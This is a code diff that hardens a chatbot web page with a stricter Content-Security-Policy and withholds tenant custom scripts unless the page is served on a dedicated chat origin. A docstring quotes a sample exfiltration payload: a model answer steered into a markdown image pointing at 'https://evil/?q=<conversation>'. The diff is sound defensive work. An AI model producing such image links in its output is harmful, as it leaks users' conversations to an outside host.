@@ -4,8 +4,11 @@ from __future__ import annotations
 
 import hashlib
 import html
+import logging
+import re
 from importlib import resources
 from pathlib import Path
+from urllib.parse import urlsplit
 
 import orjson
 from aiohttp import web
@@ -15,6 +18,7 @@ from botline.api.openapi import Access, Answer, documented
 from botline.api.state import services
 from botline.domain.chat_clients import ChatClient
 
+log = logging.getLogger(__name__)
 routes = web.RouteTableDef()
 
 WEB_ROOT = Path(str(resources.files("botline") / "web"))
@@ -25,6 +29,8 @@ ASSET_VERSION = hashlib.sha256(b"".join(
     path.read_bytes() for path in sorted(STATIC_ROOT.rglob("*")) if path.is_file()
 )).hexdigest()[:12]
 """Changes whenever a static file changes, so a browser never mixes an old chat.js with a new page."""
+_HOST = re.compile(r"^(?:\[[0-9a-fA-F:.]+\]|[a-zA-Z0-9.-]+)(?::\d{1,5})?$")
+"""A URL's host[:port] that can stand in a CSP source list as it is (no spaces, quotes or semicolons)."""
 EXPIRED_PAGE = (
     "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>Chat unavailable</title>"
     "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\"></head>"
@@ -39,12 +45,38 @@ def frame_ancestors(client: ChatClient) -> str:
     return "frame-ancestors " + (" ".join(["'self'", *origins]) if origins else "*")
 
 
+def _logo_origin(client: ChatClient) -> list[str]:
+    """The origin of an http(s) logoImageUrl, the one remote image the page may load."""
+    url = client.client_parameters.logo_image_url or ""
+    if not url.startswith(("https://", "http://")):
+        return []
+    parts = urlsplit(url)
+    return [f"{parts.scheme}://{parts.netloc}"] if _HOST.match(parts.netloc) else []
+
+
+def content_security_policy(client: ChatClient) -> str:
+    """The page talks only to its own origin (API, SSE, static files) and shows images from itself,
+    data: URLs and the logo's origin: markdown that points an image or a media element at another host
+    (an answer steered into `![](https://evil/?q=<conversation>)`) causes no request."""
+    return "; ".join([
+        frame_ancestors(client), "object-src 'none'", "base-uri 'none'",
+        " ".join(["img-src 'self' data:", *_logo_origin(client)]), "media-src 'self' data:", "connect-src 'self'",
+    ])
+
+
+def served_at_chat_origin(request: web.Request, chat_origin: str | None) -> bool:
+    """Whether this request reached botline under webchat.chat_origin's host (the Host header, which the
+    reverse proxy passes on: deploy/nginx). The scheme is not compared: TLS usually ends at the proxy."""
+    return bool(chat_origin) and request.host.lower() == urlsplit(chat_origin).netloc.lower()
+
+
 def _script_safe(text: str) -> str:
     """Text that cannot close the <script>/<style> element it is placed in."""
     return text.replace("</", "<\\/")
 
 
-def render_page(client: ChatClient, access_key: str, *, poll_seconds: float) -> str:
+def render_page(client: ChatClient, access_key: str, *, poll_seconds: float, run_scripts: bool) -> str:
+    """`run_scripts` False leaves customScripts out: the page is not on a chat origin of its own."""
     params = client.client_parameters
     config = {"accessKey": access_key, "apiBase": f"/api/v1/public/chat-clients/{access_key}",
               "pollSeconds": poll_seconds}
@@ -55,7 +87,7 @@ def render_page(client: ChatClient, access_key: str, *, poll_seconds: float) -> 
         .replace("{{primary_color}}", html.escape(params.primary_color))
         .replace("{{config_json}}", _script_safe(orjson.dumps(config).decode()))
         .replace("{{custom_styles}}", _script_safe(params.custom_styles or ""))
-        .replace("{{custom_scripts}}", _script_safe(params.custom_scripts or ""))
+        .replace("{{custom_scripts}}", _script_safe((params.custom_scripts if run_scripts else None) or ""))
     )
 
 
@@ -71,11 +103,18 @@ async def chat_page(request: web.Request) -> web.Response:
     client = None if session is None else await svc.store.chat_clients.get(session.account_id, session.chat_client_id)
     if client is None:
         return web.Response(status=404, text=EXPIRED_PAGE, content_type="text/html")
+    run_scripts = served_at_chat_origin(request, svc.settings.webchat.chat_origin)
+    if client.client_parameters.custom_scripts and not run_scripts:
+        # Saved before webchat.chat_origin was required, or this is the API's host: on the management
+        # API's origin the tenant's script would share it with whatever else is served there.
+        log.warning("chat client %s: customScripts left out, the page is not served on webchat.chat_origin",
+                    client.id)
+    page = render_page(client, access_key, poll_seconds=svc.settings.webchat.poll_seconds, run_scripts=run_scripts)
     return web.Response(
-        text=render_page(client, access_key, poll_seconds=svc.settings.webchat.poll_seconds),
+        text=page,
         content_type="text/html",
         headers={
-            "Content-Security-Policy": f"{frame_ancestors(client)}; object-src 'none'; base-uri 'none'",
+            "Content-Security-Policy": content_security_policy(client),
             "Cache-Control": "no-store",
             "Referrer-Policy": "no-referrer",
             "X-Content-Type-Options": "nosniff",
